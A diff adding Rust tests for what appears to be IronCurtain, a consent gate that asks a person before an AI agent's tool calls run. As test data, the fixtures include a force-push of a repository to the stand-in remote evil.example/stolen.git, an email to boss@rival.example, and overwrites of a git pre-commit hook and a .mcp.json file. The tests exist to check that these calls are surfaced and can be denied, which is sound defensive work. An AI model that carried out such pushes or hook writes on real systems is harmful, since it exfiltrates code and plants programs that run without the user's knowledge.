@@ -1,0 +1,182 @@
+//! A question is the whole truth about its call, in the value that the dialog and the terminal draw.
+
+use crate::consent::Next;
+use crate::hostile;
+use crate::world::World;
+use ironcurtain_daemon::consent::{Consequence, Lifetime, Piece, Question, Reach, Verb};
+use serde_json::{Value, json};
+use std::path::Path;
+use std::process::Command;
+
+/// A server with a tool of each kind; everything but reading in `~/work` is asked about.
+fn world() -> World {
+    World::with(|prepared| {
+        hostile::install(prepared);
+        let tool =
+            |name: &str, args: Value| json!({ "toolName": name, "serverName": "hostile", "args": args });
+        let push = json!({
+            "repo_path": ["read-path"],
+            "remote": ["git-remote-url"],
+            "branch": ["branch-name"],
+            "force": ["none"],
+        });
+        let mail = json!({ "to": ["email-address"], "subject": ["none"], "body": ["email-body"] });
+        let issue = json!({ "owner": ["github-owner"], "repo": ["github-repo"], "title": ["none"] });
+        let tools = [tool("git_push", push), tool("send_email", mail), tool("create_issue", issue)];
+        let annotations = json!({ "servers": { "hostile": { "tools": tools } } });
+        let work = json!({ "paths": { "roles": ["read-path"], "within": "~/work" } });
+        let rules = json!({ "rules": [
+            { "name": "work", "if": work, "then": "allow" },
+            { "name": "rest", "if": {}, "then": "escalate", "reason": "It needs your word." },
+        ] });
+        let policy = prepared.home.policy();
+        std::fs::write(policy.join("tool-annotations.json"), annotations.to_string()).unwrap();
+        std::fs::write(policy.join("compiled-policy.json"), rules.to_string()).unwrap();
+    })
+}
+
+fn only(world: &World) -> Question {
+    let asked = world.person.asked();
+    assert_eq!(asked.len(), 1, "{asked:?}");
+    asked.into_iter().next().unwrap()
+}
+
+fn once() -> Box<Next> {
+    Box::new(Next::Allow(Reach::Paths, Lifetime::Once))
+}
+
+fn foreign(text: &str) -> Piece {
+    Piece::Foreign(text.to_owned())
+}
+
+fn on(verb: Verb, path: &Path, note: &str) -> Consequence {
+    let object = vec![Piece::Path(path.to_str().unwrap().to_owned())];
+    Consequence { verb, object, note: Some(note.to_owned()), asked_for: None, allowed: false }
+}
+
+fn saying(verb: Verb, object: Vec<Piece>) -> Consequence {
+    Consequence { verb, object, note: None, asked_for: None, allowed: false }
+}
+
+#[test]
+fn a_push_to_a_stranger_names_push_remote_and_branch_first() {
+    let world = world();
+    let repo = world.path("work/app");
+    std::fs::create_dir_all(&repo).unwrap();
+    for arguments in [&["init", "-q"][..], &["remote", "add", "origin", "https://evil.example/stolen.git"]] {
+        assert!(Command::new("git").arg("-C").arg(&repo).args(arguments).status().unwrap().success());
+    }
+    let arguments = json!({ "repo_path": repo, "remote": "origin", "branch": "main", "force": true });
+    let mut client = world.connect("hostile");
+    client.call("git_push", arguments.clone()).refused("the user denied this call");
+    let question = only(&world);
+    let object = vec![
+        foreign("main"),
+        Piece::Ours(" "),
+        Piece::Ours("to "),
+        foreign("https://evil.example/stolen.git"),
+    ];
+    let push = Consequence { asked_for: Some("origin".to_owned()), ..saying(Verb::Push, object) };
+    let read = Consequence { allowed: true, ..on(Verb::Read, &repo, "folder") };
+    assert_eq!(question.consequences, [push, read]);
+    assert_eq!(question.with, [("force".to_owned(), "true".to_owned())]);
+    world.person.will(*once());
+    assert!(client.call("git_push", arguments).ok().contains("origin"));
+}
+
+#[test]
+fn a_mail_names_who_gets_it_and_an_issue_its_repository() {
+    let world = world();
+    let mut client = world.connect("hostile");
+    let mail = json!({ "to": ["boss@rival.example"], "subject": "Figures", "body": "x".repeat(300) });
+    client.call("send_email", mail.clone()).refused("the user denied this call");
+    let question = only(&world);
+    let object = vec![Piece::Ours("a message to "), foreign("boss@rival.example")];
+    assert_eq!(question.consequences, [saying(Verb::Send, object)]);
+    let body = format!("{} … (100 characters more)", "x".repeat(200));
+    let pair = |name: &str, value: &str| (name.to_owned(), value.to_owned());
+    assert_eq!(question.with, [pair("body", &body), pair("subject", "Figures")]);
+    assert!(question.arguments.contains(&pair("body", &"x".repeat(300))), "the details have all of it");
+    let issue = json!({ "owner": "acme", "repo": "app", "title": "It leaks" });
+    client.call("create_issue", issue).refused("the user denied this call");
+    let question = only(&world);
+    let object = vec![Piece::Ours("to "), foreign("acme/app"), Piece::Ours(" on GitHub")];
+    assert_eq!(question.consequences, [saying(Verb::Publish, object)]);
+    assert_eq!(question.with, [pair("title", "It leaks")]);
+    world.person.will(*once());
+    assert!(client.call("send_email", mail).ok().contains("Figures"));
+}
+
+#[test]
+fn what_is_opened_for_a_new_name_and_what_runs_later_are_lines_of_their_own() {
+    let world = World::new();
+    let (there, new) = (world.file("docs/there.txt", "12 bytes yes"), world.path("docs/new.txt"));
+    let hook = world.file("docs/.git/hooks/pre-commit", "old");
+    let servers = world.file("docs/.mcp.json", "{}");
+    let mut client = world.connect("filesystem");
+    let mut asked = |path: &Path| {
+        client.write(path, "three").refused("the user denied this call");
+        let question = only(&world);
+        (question.consequences, question.also)
+    };
+    let opens = "Opens ~/docs: meanwhile its server can read and change everything in there.".to_owned();
+    assert_eq!(asked(&new), (vec![on(Verb::Write, &new, "new file, 5 bytes")], vec![opens]));
+    let overwrite = on(Verb::Overwrite, &there, "12 bytes are there now, 5 bytes");
+    assert_eq!(asked(&there), (vec![overwrite], vec![]));
+    let overwrite = on(Verb::Overwrite, &hook, "3 bytes are there now, 5 bytes");
+    let runs = "~/docs/.git/hooks/pre-commit runs when you use git in this repository.".to_owned();
+    assert_eq!(asked(&hook), (vec![overwrite], vec![runs]));
+    client.write(&servers, "{}").refused("the user denied this call");
+    let question = only(&world);
+    assert!(question.reason.contains("starts programs outside IronCurtain's care"), "{}", question.reason);
+    assert_eq!(question.also, ["~/docs/.mcp.json runs when you start Claude Code in this folder."]);
+    world.person.will(*once());
+    client.write(&new, "three").ok();
+    assert_eq!(std::fs::read_to_string(&new).unwrap(), "three");
+}
+
+#[test]
+fn another_kind_of_thing_at_the_path_is_asked_about_again() {
+    for lifetime in [Lifetime::Once, Lifetime::Session] {
+        let world = World::new();
+        let (file, new) = (world.file("docs/a.txt", "a"), world.path("docs/new.txt"));
+        let mut client = world.connect("filesystem");
+        let then = |change: Box<dyn FnOnce(&Question) + Send>| {
+            world.person.will(Next::After(change, Box::new(Next::Allow(Reach::Paths, lifetime))));
+        };
+        let verbs = || {
+            let asked = world.person.asked();
+            asked
+                .iter()
+                .map(|q| (q.consequences[0].verb, q.consequences[0].note.clone().unwrap()))
+                .collect::<Vec<_>>()
+        };
+        // Nothing was there, and now a file of the person's is.
+        let at = new.clone();
+        then(Box::new(move |_| std::fs::write(at, "the person's").unwrap()));
+        client.write(&new, "mine").refused("the user denied this call");
+        let expected = [
+            (Verb::Write, "new file, 4 bytes".to_owned()),
+            (Verb::Overwrite, "12 bytes are there now, 4 bytes".to_owned()),
+        ];
+        assert_eq!(verbs(), expected);
+        assert_eq!(std::fs::read_to_string(&new).unwrap(), "the person's");
+        assert_eq!(world.grants(), [], "a yes to something else gives nothing");
+        // A file was there, and now a folder is.
+        let at = file.clone();
+        then(Box::new(move |_| {
+            std::fs::remove_file(&at).unwrap();
+            std::fs::create_dir(&at).unwrap();
+        }));
+        client.call("get_file_info", json!({ "path": file })).refused("the user denied this call");
+        let expected = [(Verb::Read, "1 byte".to_owned()), (Verb::Read, "folder".to_owned())];
+        assert_eq!(verbs(), expected);
+        assert_eq!(world.grants(), []);
+        // What is still a file is what was asked about, whatever is in it by now.
+        let at = new.clone();
+        then(Box::new(move |_| std::fs::write(at, "longer than it was").unwrap()));
+        client.write(&new, "mine").ok();
+        assert_eq!(verbs().len(), 1);
+        assert_eq!(std::fs::read_to_string(&new).unwrap(), "mine");
+    }
+}
